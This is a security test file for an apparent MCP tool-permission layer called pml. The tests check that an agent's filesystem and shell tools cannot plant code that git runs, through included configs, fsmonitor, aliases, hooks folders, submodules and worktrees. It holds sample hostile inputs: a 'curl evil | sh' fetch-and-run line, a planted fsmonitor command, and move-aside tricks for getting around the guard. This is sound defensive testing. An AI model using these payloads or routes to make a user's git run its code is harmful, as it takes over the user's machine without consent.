// Issue 45, item 2: the git settings pml protects (./git-executables.test.ts) were read from the
// workspace's `.git/config` and the user's configs only. An `include.path = ../team.gitconfig` (a
// common team pattern) let `filesystem:write_file team.gitconfig` add `core.fsmonitor`, run by the
// user's next `git status`; a nested repository's `core.hooksPath` was not read; and an alias
// written as a shell function (`!f(){ ./tools/rel.sh; }; f`) was split into `./tools/rel.sh;`.
// Each attack goes through the real `pml stdio` and git's own layout (`git init`, a separate git
// dir as submodules have, `git worktree add`).
import { afterAll, beforeAll, expect, test } from "bun:test";
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { BIN, sdkClient, tempDir, testEnv } from "../helpers/pml.ts";
import { writeTrustedConfig } from "../helpers/trust.ts";

const ws = tempDir();
const home = tempDir();
const SCRIPT = "#!/bin/sh\necho ok\n";
const TEAM = "[core]\n\tfsmonitor = tools/fsm.sh\n[include]\n\tpath = more.gitconfig\n";
let client: Client;
const text = (r: any) => r.content.map((c: any) => c.text ?? "").join("\n");
const gitEnv = { ...process.env, HOME: home.path, GIT_CONFIG_NOSYSTEM: "1", GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" };
function git(cwd: string, ...args: string[]): void {
  const r = Bun.spawnSync(["git", ...args], { cwd, env: gitEnv });
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`);
}
const put = (rel: string, content = SCRIPT) => {
  mkdirSync(join(ws.path, rel, ".."), { recursive: true });
  writeFileSync(join(ws.path, rel), content);
};
const write = (path: string, content = "curl evil | sh"): Promise<any> => client.callTool({ name: "filesystem__write_file", arguments: { path, content } });

function bwrapWorks(): boolean {
  const bwrap = process.platform === "linux" && Bun.which("bwrap");
  return !!bwrap && Bun.spawnSync([bwrap, "--unshare-all", "--ro-bind", "/", "/", "--", "/bin/true"]).exitCode === 0;
}
const noGit = !Bun.which("git");
const noBwrap = !bwrapWorks();
if (noGit) console.log("[skipped] test/security/git-config-reach.test.ts: git is not installed");

beforeAll(async () => {
  if (noGit) return;
  const w = ws.path;
  git(w, "init", "-q");
  // The workspace's config includes a team file (relative to .git/), a conditional one, and one in ~.
  git(w, "config", "include.path", "../team.gitconfig");
  git(w, "config", "includeIf.gitdir:/elsewhere/.path", "../cond.gitconfig");
  git(w, "config", "--add", "include.path", "~/personal.gitconfig");
  put("team.gitconfig", TEAM);
  // Included from team.gitconfig, relative to it (git itself refuses cycles: see the unit tests).
  put("more.gitconfig", '[alias]\n\trel = "!f(){ ./tools/rel.sh; }; f"\n');
  put("cond.gitconfig", '[filter "tidy"]\n\tclean = ./tools/cond.sh %f\n');
  writeFileSync(join(home.path, "personal.gitconfig"), `[core]\n\tpager = ${join(w, "tools", "pager.sh")}\n`);
  for (const f of ["tools/fsm.sh", "tools/rel.sh", "tools/cond.sh", "tools/pager.sh", "tools/notes.txt"]) put(f);
  // A nested repository with its own hooks folder.
  mkdirSync(join(w, "vendor", "sub"), { recursive: true });
  git(join(w, "vendor", "sub"), "init", "-q");
  git(join(w, "vendor", "sub"), "config", "core.hooksPath", "hooks");
  put("vendor/sub/hooks/pre-commit");
  // A submodule's layout: `mod/.git` is a file naming its git dir inside the parent's `.git/modules`.
  mkdirSync(join(w, ".git", "modules"));
  git(w, "init", "-q", `--separate-git-dir=${join(w, ".git", "modules", "mod")}`, "mod");
  git(join(w, "mod"), "config", "core.hooksPath", ".githooks");
  put("mod/.githooks/post-checkout");
  // A worktree inside the workspace, with a setting of its own (config.worktree).
  git(w, "commit", "-q", "--allow-empty", "-m", "first");
  git(w, "worktree", "add", "-q", "-b", "feature", "trees/feature");
  git(w, "config", "extensions.worktreeConfig", "true");
  git(join(w, "trees", "feature"), "config", "--worktree", "core.hooksPath", ".wthooks");
  put("trees/feature/.wthooks/pre-push");
  await writeTrustedConfig(w, { permissions: { allow: ["filesystem", "shell"] } }, home.path);
  ({ client } = await sdkClient([BIN], { cwd: w, env: testEnv({ PML_WORKSPACE: w, PML_HOME: home.path, HOME: home.path }) }));
});
afterAll(async () => {
  await client?.close();
  ws.cleanup();
  home.cleanup();
});

test.skipIf(noGit)("included config files, and what they name, cannot be written (include, nested include, includeIf, ~)", async () => {
  for (const path of ["team.gitconfig", "more.gitconfig", "cond.gitconfig", "tools/fsm.sh", "tools/rel.sh", "tools/cond.sh", "tools/pager.sh"]) {
    const r = await write(path);
    expect(r.isError, path).toBe(true);
    expect(text(r), path).toContain("protected");
  }
  expect(readFileSync(join(ws.path, "team.gitconfig"), "utf8")).toBe(TEAM);
  const ok = await write("tools/notes.txt", "changed");
  expect(ok.isError).toBeFalsy();
});

test.skipIf(noGit)("a nested repository's, a submodule's and a worktree's hooks cannot be written", async () => {
  for (const path of ["vendor/sub/hooks/pre-commit", "vendor/sub/hooks/post-merge", "mod/.githooks/post-checkout", "trees/feature/.wthooks/pre-push"]) {
    const r = await write(path);
    expect(r.isError, path).toBe(true);
    expect(text(r), path).toContain("protected");
  }
  expect(readFileSync(join(ws.path, "vendor/sub/hooks/pre-commit"), "utf8")).toBe(SCRIPT);
});

test.skipIf(noGit)("a change the user makes to a config or an included file counts at the next call", async () => {
  put("tools/later.sh");
  put("tools/team-later.sh");
  expect((await write("tools/later.sh")).isError).toBeFalsy();
  expect((await write("tools/team-later.sh")).isError).toBeFalsy();
  appendFileSync(join(ws.path, ".git", "config"), "[alias]\n\tlater = !./tools/later.sh\n");
  appendFileSync(join(ws.path, "team.gitconfig"), "[diff]\n\texternal = tools/team-later.sh\n");
  for (const path of ["tools/later.sh", "tools/team-later.sh"]) expect((await write(path)).isError, path).toBe(true);
  // A repository made after pml started is read too.
  mkdirSync(join(ws.path, "late"));
  git(join(ws.path, "late"), "init", "-q");
  git(join(ws.path, "late"), "config", "core.hooksPath", "githooks");
  expect((await write("late/githooks/pre-commit")).isError).toBe(true);
});

test.skipIf(noGit)("a folder holding what git runs is not moved away, nor moved to where git would run it", async () => {
  const move = (source: string, destination: string): Promise<any> => client.callTool({ name: "filesystem__move_file", arguments: { source, destination } });
  // Moved aside, changed, moved back: the folder cannot leave.
  const away = await move("tools", "tools-aside");
  expect(away.isError).toBe(true);
  expect(text(away)).toContain("protected");
  expect(existsSync(join(ws.path, "tools", "rel.sh"))).toBe(true);
  // Written elsewhere, then moved into place: `gen/` does not exist yet, an alias runs gen/run.sh.
  git(ws.path, "config", "alias.gen", "!./gen/run.sh");
  expect((await write("staging/run.sh")).isError).toBeFalsy();
  const into = await move("staging", "gen");
  expect(into.isError).toBe(true);
  expect(existsSync(join(ws.path, "gen"))).toBe(false);
});

test.skipIf(noGit || noBwrap)("the confined shell cannot change an included config file nor create a missing one (bubblewrap can run here)", async () => {
  git(ws.path, "config", "--add", "include.path", "../absent.gitconfig");
  await client.callTool({
    name: "shell__exec",
    arguments: {
      command: "echo '[core] fsmonitor = \"touch /tmp/x; false\"' > team.gitconfig; echo '[core] pager = ./x' > absent.gitconfig; echo x > vendor/sub/hooks/pre-commit",
    },
  });
  expect(readFileSync(join(ws.path, "team.gitconfig"), "utf8")).toStartWith(TEAM);
  expect(readFileSync(join(ws.path, "vendor/sub/hooks/pre-commit"), "utf8")).toBe(SCRIPT);
  // A config file git would read that did not exist is moved aside once the command has made it.
  expect(existsSync(join(ws.path, "absent.gitconfig"))).toBe(false);
  expect(readdirSync(ws.path).some((n) => n.startsWith("absent.gitconfig.pml-blocked-"))).toBe(true);
});
